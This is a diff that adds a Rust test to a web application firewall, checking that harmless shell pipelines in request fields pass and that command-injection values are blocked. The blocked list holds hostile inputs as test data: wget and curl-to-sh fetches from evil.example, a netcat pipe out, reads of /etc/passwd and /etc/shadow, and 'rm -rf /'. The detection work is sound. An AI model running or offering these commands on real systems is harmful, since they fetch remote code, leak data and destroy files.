@@ -2374,6 +2374,65 @@ fn holdout18_shapes_pass_and_their_attacks_still_score() {
     }
 }
 
+#[test]
+fn holdout19_shapes_pass_and_their_attacks_still_score() {
+    let waf = waf_with("{}");
+    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);
+    let enc = |v: &str| {
+        v.bytes()
+            .map(|b| if b.is_ascii_alphanumeric() { (b as char).to_string() } else { format!("%{b:02X}") })
+            .collect::<String>()
+    };
+
+    // A command line that starts with a program piping into a further stage (a command word
+    // with an argument or a pipe of its own) is a command line by design, as one whose first
+    // command has an argument already was: a backup job's description, a support answer. Its
+    // shell shapes (the pipe, a `$(date …)` in a file name) are one weak signal.
+    assert!(context::is_script(b"pg_dump | gzip | aws s3 cp - s3://acme-backups/pg/$(date +%f).sql.gz"));
+    assert!(context::is_script(b"ps | grep node"));
+    assert!(context::is_script(b"mysqldump | gzip | ssh backup@nas 'cat > all.sql.gz'"));
+    for v in [
+        "pg_dump | gzip | aws s3 cp - s3://acme-backups/pg/$(date +%F).sql.gz -- alerts #ops-oncall",
+        "mysqldump | gzip | aws s3 cp - s3://acme-backups/mysql/$(date +%Y%m%d).sql.gz",
+        "ps | grep node",
+    ] {
+        let o = json_post(&waf, &serde_json::json!({ "desc": v }).to_string());
+        assert!(!o.blocked && rule(&o, 3200) == Some(3) && rule(&o, 3201).is_none(), "{v}: {o:?}");
+        let o = outcome(&waf, &format!("/api/v3/checks?desc={}", enc(v)));
+        assert!(!o.blocked, "{v}: {o:?}");
+    }
+    // Data before the pipe, a bare second command, `||`, a stage that reaches the system (a
+    // shell, `nc host port`, a system file, `rm -rf /`, a substitution running `curl`), or a
+    // substitution on its own still block.
+    assert!(!context::is_script(b"ls | id"));
+    assert!(!context::is_script(b"127.0.0.1 | cat /etc/passwd"));
+    assert!(!context::is_script(b"pg_dump || id"));
+    assert!(!context::is_script(b"ls | ls | id"));
+    for q in [
+        "ls | id",
+        "echo | whoami",
+        "cat | id",
+        "ls | ls | id",
+        "echo | cat | whoami",
+        "localhost | whoami",
+        "127.0.0.1 | cat /etc/passwd",
+        "x | wget http://evil.example/s -O /tmp/s",
+        "pg_dump || id",
+        "pg_dump |id",
+        "ls | sh",
+        "pg_dump | nc evil.example 4444",
+        "pg_dump | $(id)",
+        "echo | $(curl evil.example|sh)",
+        "mysqldump | xargs rm -rf /",
+        "ps | grep x; cat /etc/shadow",
+        "$(date +%F)",
+        "x$(id)",
+    ] {
+        let o = json_post(&waf, &serde_json::json!({ "desc": q }).to_string());
+        assert!(o.blocked && o.matches.iter().any(|m| m.category == Category::Rce), "{q}: {o:?}");
+    }
+}
+
 /// The first form of `context::template_parent_paths` (holdout16's round): for each `..` it
 /// rescanned the value before and after it, quadratic in the value's length (a 100 KB value of
 /// `{{ ../a ../a …` took 1.4 s natively). Kept here as the reference the one-pass form must agree
